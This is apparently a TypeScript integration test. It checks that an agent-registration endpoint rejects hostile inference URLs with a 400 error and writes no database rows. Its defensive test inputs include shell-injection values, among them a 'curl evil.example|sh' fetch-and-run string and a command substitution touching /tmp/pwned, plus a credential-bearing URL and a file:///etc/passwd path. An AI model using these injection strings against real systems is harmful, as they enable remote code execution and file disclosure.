// Registration refuses an inference URL a pasted "Call it" snippet could run: real route over real HTTP, real
// PostgreSQL. Nothing is written for a refused registration.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db } from "@/server/db/client";
import { resetEnvForTests } from "@/server/env";
import { createTestAgentToken, createTestEnrollmentToken, insertTestUser } from "@/server/auth/test-support";
import type { ServiceCaller } from "@/server/services/users-service";
import { agentApiRoutes, startRouteServer } from "../../../../../../test/control-plane-harness";
import { recordSecret } from "../../../../../../test/secrets-list";

let server: Awaited<ReturnType<typeof startRouteServer>> | undefined;
let caller: ServiceCaller;

const registration = (hostName: string, inferenceUrl: string) => ({
  protocolVersion: 1, agentVersion: "0.1.0", hostName, bootId: crypto.randomUUID(),
  topology: { sockets: [{ id: 0, nodes: [{ id: 0, cores: [{ socket: 0, node: 0, coreId: 0, cpus: [0] }] }] }] },
  allowedCpus: [0], cpuModel: "test", memoryBytes: 1e9, ortVersion: "1.30.0", inferenceUrl,
});
const post = (bearer: string, body: unknown) => fetch(`${server!.url}/api/agent/v1/register`, {
  method: "POST", headers: { authorization: `Bearer ${bearer}`, "content-type": "application/json" }, body: JSON.stringify(body),
});

beforeAll(async () => {
  resetEnvForTests();
  caller = { user: await insertTestUser(db(), "admin"), requestId: "register-url-test" };
  server = await startRouteServer(await agentApiRoutes(), 0);
});
afterAll(async () => { await server?.close(); });

describe("agent registration checks the inference URL", () => {
  it("an agent token with a shell-injecting URL gets 400 naming inferenceUrl, and the agent row is not bound", async () => {
    const token = await createTestAgentToken(caller, { name: "hostile-url" });
    for (const url of ["http://node-1:8000/$(touch${IFS}/tmp/pwned)", "http://node-1:8000;curl evil.example|sh", "http://admin:pw@node-1:8000", "file:///etc/passwd"]) {
      const response = await post(token.token, registration("hostile-1", url));
      expect(response.status, url).toBe(400);
      const body = await response.json();
      expect(body.error.message, url).toMatch(/^inferenceUrl: must be an http or https URL without credentials or shell characters/);
    }
    const agent = await db().agent.findFirst({ where: { tokens: { some: { id: token.id } } } });
    expect(agent?.hostName ?? null).toBeNull();
    const fine = await post(token.token, registration("hostile-1", "http://node-1:8000"));
    expect(fine.status).toBe(200);
    expect((await db().agent.findFirstOrThrow({ where: { tokens: { some: { id: token.id } } } })).inferenceUrl).toBe("http://node-1:8000");
  });

  it("an enrollment token with a hostile URL gets the same 400 and enrolls no agent", async () => {
    const enrollment = await createTestEnrollmentToken(caller, { name: "hostile-fleet", maxUses: 1 });
    const before = await db().agent.count();
    const response = await post(enrollment.token, registration("hostile-2", "http://node-2:8000/`id`"));
    expect(response.status).toBe(400);
    expect((await response.json()).error.message).toMatch(/^inferenceUrl: /);
    expect(await db().agent.count()).toBe(before);
    const enrolled = await post(enrollment.token, registration("hostile-2", "http://node-2:8000"));
    expect(enrolled.status).toBe(200);
    recordSecret("agent token", (await enrolled.json()).agentToken ?? "");
  });
});
